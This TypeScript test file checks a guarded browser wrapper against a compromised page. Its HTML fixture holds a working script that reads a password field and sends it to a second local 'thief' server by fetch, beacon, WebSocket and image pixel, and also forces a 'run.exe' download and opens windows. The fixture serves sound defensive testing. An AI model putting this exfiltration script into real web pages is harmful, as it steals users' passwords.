import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, onTestFinished, test, vi } from 'vitest';
import { launchBrowser } from './browser.ts';
import { GuardedPage } from './guarded-page.ts';
import { practiceProfile } from './profiles/practice.ts';

/** A web server on a free port of 127.0.0.1 that notes what it was asked for. */
async function server(page: (elsewhere: string) => string, elsewhere = '') {
  const asked: string[] = [];
  const http = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    const attachment = request.url === '/file';
    response.setHeader('content-type', attachment ? 'application/octet-stream' : 'text/html');
    if (attachment) response.setHeader('content-disposition', 'attachment; filename="run.exe"');
    response.end(page(elsewhere));
  });
  http.on('upgrade', (request, socket) => {
    asked.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => {
    http.closeAllConnections();
    http.close();
  });
  return { url: `http://127.0.0.1:${(http.address() as AddressInfo).port}`, asked };
}

/** Everything a compromised page could try at once, with a password field to steal from. */
const hostilePage = (elsewhere: string): string => `<!doctype html><title>Broker</title>
<link rel="preconnect" href="${elsewhere}"><link rel="prefetch" href="${elsewhere}/prefetch">
<img src="${elsewhere}/image"><iframe src="${elsewhere}/frame"></iframe>
<label>Password <input id="password" type="password"></label>
<script>
  const away = ${JSON.stringify(elsewhere)};
  const tell = () => {
    const stolen = document.getElementById('password').value;
    fetch(away + '/fetch?' + stolen).catch(() => undefined);
    navigator.sendBeacon(away + '/beacon', stolen);
    new WebSocket(away.replace('http', 'ws') + '/socket?' + stolen);
    new Image().src = away + '/pixel?' + stolen;
  };
  document.addEventListener('input', tell);
  tell();
  window.open(away + '/window');
  window.open('/own-window');
  navigator.serviceWorker?.register('/worker.js').catch(() => undefined);
  const link = document.createElement('a');
  link.href = '/file'; link.download = ''; document.body.append(link); link.click();
</script>`;

describe('T1: a compromised page', () => {
  test('reaches no other host, opens no window, keeps no file, gets no permission', async () => {
    const thief = await server(() => 'thanks');
    const broker = await server(hostilePage, thief.url);
    const launched = await launchBrowser({ hosts: ['127.0.0.1'] });
    onTestFinished(() => launched.close());
    const blocked: string[] = [];
    const guarded = await GuardedPage.open(launched.browser, practiceProfile(broker.url), (origin) =>
      blocked.push(origin),
    );
    const downloads: string[] = [];
    guarded.page.on('download', (download) => void download.failure().then((why) => downloads.push(why ?? 'kept')));

    await guarded.page.goto(broker.url);
    guarded.check();
    const field = await guarded.page.locator('#password').elementHandle();
    expect(field).not.toBeNull();
    if (field !== null) await guarded.typeSecret(field, 'canary-password', 2_000);
    await vi.waitFor(() => expect(blocked.length).toBeGreaterThan(5));

    expect(thief.asked).toEqual([]);
    expect(new Set(blocked)).toEqual(new Set([thief.url]));
    await vi.waitFor(() => expect(guarded.page.context().pages()).toHaveLength(1));
    expect(broker.asked).not.toContain('GET /worker.js');
    expect(broker.asked).not.toContain('GET /own-window');
    expect(downloads).not.toContain('kept');
    const permission = await guarded.page.evaluate(() => Notification.requestPermission());
    expect(permission).not.toBe('granted');
    guarded.check();
  });

  test('a field in a document of another host is not typed into', async () => {
    const broker = await server(() => '<input id="password">');
    const launched = await launchBrowser({ hosts: ['127.0.0.1'] });
    onTestFinished(() => launched.close());
    // The broker's page, as another profile would see it: not its own.
    const other = practiceProfile('http://127.0.0.1:9');
    const profile = { ...other, resourceOrigins: [broker.url] };
    const guarded = await GuardedPage.open(launched.browser, profile, () => undefined);
    await guarded.page.goto(broker.url);
    const field = await guarded.page.locator('#password').elementHandle();
    if (field === null) throw new Error('no field');
    await expect(guarded.typeSecret(field, 'canary-password', 2_000)).rejects.toMatchObject({
      code: 'host-not-allowed',
    });
    expect(await guarded.page.locator('#password').inputValue()).toBe('');
  });
});
